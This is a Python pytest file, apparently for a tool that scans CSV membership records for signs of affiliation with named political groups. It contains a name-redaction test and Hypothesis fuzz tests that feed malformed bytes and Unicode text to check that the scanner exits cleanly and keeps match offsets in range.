def test_redact_keeps_the_evidence_when_the_name_is_a_groups_word(tmp_path: Path) -> None:
    # The member's byline puts her name in a cue; her surname is also the LAW's letters.
    byline = "'Free speech now' - by Jo Law, on socialist.net"
    article = "Article by Jo Law in the LAW bulletin"
    path = write(
        tmp_path,
        csv_bytes(f'M1,Jo Law,2023-01-01,"{byline}",x', f"M1,Jo Law,2023-02-01,{article},x"),
    )
    result = run("scan", "--format", "jsonl", "--redact", path)
    first, second = (json.loads(line) for line in result.stdout.splitlines())
    for finding in (first, second):
        assert "Jo" not in json.dumps(finding["cues"]) + finding["explanation"]
    assert first["cues"][0].startswith("by person-")
    assert "abbreviation 'LAW' matched 'LAW'" in second["explanation"]


# --- property tests -----------------------------------------------------------------------


@pytest.fixture(scope="module")
def scratch(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return tmp_path_factory.mktemp("hypothesis") / "input.csv"


CSV_ALPHABET = st.sampled_from(
    [b",", b'"', b"\n", b"\r", b"\x00", b" ", b"a", b"M1", b"2023-01-01", b"\xe9", b"\xff",
     b"\x81", b"\xc3\xa9", SOLD.encode(), b"\xef\xbb\xbf"]
)  # fmt: skip
HOSTILE_BYTES = st.one_of(
    st.binary(max_size=400),
    st.binary(max_size=400).map(lambda body: csv_bytes() + body),
    st.lists(CSV_ALPHABET, max_size=60).map(lambda parts: csv_bytes() + b"".join(parts)),
    st.sampled_from([codecs.BOM_UTF16_LE, codecs.BOM_UTF8, b"PK\x03\x04"]).flatmap(
        lambda start: st.binary(max_size=200).map(lambda body: start + body)
    ),
)


@settings(max_examples=150, deadline=None)
@given(data=HOSTILE_BYTES)
def test_any_bytes_scan_to_an_exit_code_never_an_exception(scratch: Path, data: bytes) -> None:
    scratch.write_bytes(data)
    result = run("scan", "--format", "json", scratch)
    assert result.exit_code in (0, 1, 2)
    assert "Traceback" not in result.stderr
    if result.exit_code == 2:
        # Not splitlines(): a header's own control characters may split a message (a bug
        # of its own, test_a_control_sequence_in_a_header_does_not_reach_the_terminal).
        assert result.stderr.startswith(f"{scratch}: ")
        assert result.stderr.endswith("\n")
        return
    assert_accounted(json.loads(result.stdout))


WORDS = st.sampled_from(
    ["Solidarity", "AWL", "Socialist Appeal", "sold", "copies", "member", "not", "ß", "İ",
     "ﬁ", "Ǆ", "\u0301", "\u200b", "ＳＯＬＩＤＡＲＩＴＹ", "s0lidarity", "#AWL", "@awl",
     "2023-01-01", "…", "’s", "\n", "", "LIEN", "Labour in Exile"]
)  # fmt: skip
TEXTS = st.one_of(
    st.text(),
    st.lists(st.one_of(WORDS, st.text(max_size=3)), max_size=30).map(" ".join),
    st.lists(st.one_of(WORDS, st.text(max_size=2)), max_size=30).map("".join),
)


@settings(max_examples=500, deadline=None)
@given(text=TEXTS)
def test_judge_never_raises_and_offsets_stay_in_the_text(judge: Judge, text: str) -> None:
    assessment = judge.assess(text, parse_date("2023-01-01"))
    mentions = [*assessment.mentions, *(v.mention for v in assessment.verdicts)]
    for mention in mentions:
        assert 0 <= mention.start <= mention.end <= len(text)
        assert text[mention.start : mention.end] == mention.text
    for hit in (*assessment.support, *assessment.exclusions):
        assert 0 <= hit.start <= hit.end <= len(text)
